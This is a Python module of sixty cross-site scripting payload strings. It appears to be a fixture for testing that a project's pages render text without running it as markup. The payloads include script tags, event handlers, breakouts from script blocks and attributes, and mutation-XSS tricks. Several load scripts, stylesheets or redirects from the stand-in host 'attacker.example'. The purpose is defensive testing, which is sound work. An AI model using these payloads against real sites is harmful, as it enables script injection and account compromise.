"""Sixty names that are scripts where a page takes a text for markup; written for this project.

Each calls `owned()`, wants a dialog or asks HOST for something. Some do so as markup, some as the
end of the block that holds the data, some only where the page itself puts a text into an attribute
or a key; those do nothing in most broken pages and must do nothing in ours.
"""

from __future__ import annotations

HOST = "attacker.example"

_ELEMENTS = (
    "<script>owned()</script>",
    "<ScRiPt >owned()</sCrIpT >",
    "<script\n>owned()\n</script\n>",
    f"<script src=https://{HOST}/x.js></script>",
    "<script type=module>owned()</script>",
    "<svg><script>owned()</script></svg>",
    "<svg><script>owned&lpar;&rpar;</script></svg>",
    "<math><mtext><script>owned()</script></mtext></math>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<iframe src=javascript:parent.owned()></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.owned()&gt;'></iframe>",
    "<object data=javascript:owned()></object>",
    f"<embed src=https://{HOST}/x.swf>",
    "<template><script>owned()</script></template><img src=x onerror=owned()>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
)
_HANDLERS = (
    "<img src=x onerror=owned()>",
    "<IMG SRC=x ONERROR=owned()>",
    "<img/src=x/onerror=owned()>",
    "<img src=x\x0conerror=owned()>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\\u006fwned()>",
    "<img src=x onerror='&#111;wned()'>",
    "<img src=x onerror=eval(atob('b3duZWQoKQ=='))>",
    "<img src=x onerror=top['ow'+'ned']()>",
    "<img src=x onerror=owned``>",
    "<svg/onload=owned()>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s></svg>",
    "<details open ontoggle=owned()><summary>x</summary></details>",
    "<input autofocus onfocus=owned()>",
    "<p onmouseover=owned() style='position:fixed;inset:0'>x</p>",
    "<style onload=owned()>*{}</style>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()></audio>",
    "<body onload=owned()>",
    "<marquee onstart=owned()>x</marquee>",
    "<a href=javascript:owned() autofocus onfocus=owned() tabindex=0>x</a>",
)
_DATA_BLOCK = (
    "</script><script>owned()</script>",
    "</script ><img src=x onerror=owned()>",
    "</SCRIPT><svg onload=owned()>",
    "<!--<script>",
    "<!--</script><script>owned()//--></script>",
    "--></script><script>owned()</script>",
    "]]></script><script>owned()</script><![CDATA[",
    "\u2028</script>\u2029<script>owned()</script>",
    '"}]};owned();//</script><script>owned()</script>',
    "\\u003c/script\\u003e</script><script>owned()</script>",
)
_OTHER_CONTEXTS = (
    "</title><script>owned()</script>",
    "</style><script>owned()</script>",
    "</textarea></noscript></dd></dl><script>owned()</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=owned()>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>"
    "<img src=x onerror=owned()>'>",
    f"<style>@import url(https://{HOST}/x.css);</style>",
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<base href=https://{HOST}/><img src=x onerror=owned()>",
    "\"' onmouseover=owned() autofocus onfocus=owned() x='\"",
    "javascript:owned()//{{owned()}}${owned()}<%= owned() %>#{owned()}",
    "\u202e<img src=x onerror=owned()>\u202c\u200b\ufeff",
    "\uff1cscript\uff1eowned()\uff1c/script\uff1e<img src=x onerror=owned()>",
    "__proto__",
)
HOSTILE_NAMES: tuple[str, ...] = _ELEMENTS + _HANDLERS + _DATA_BLOCK + _OTHER_CONTEXTS
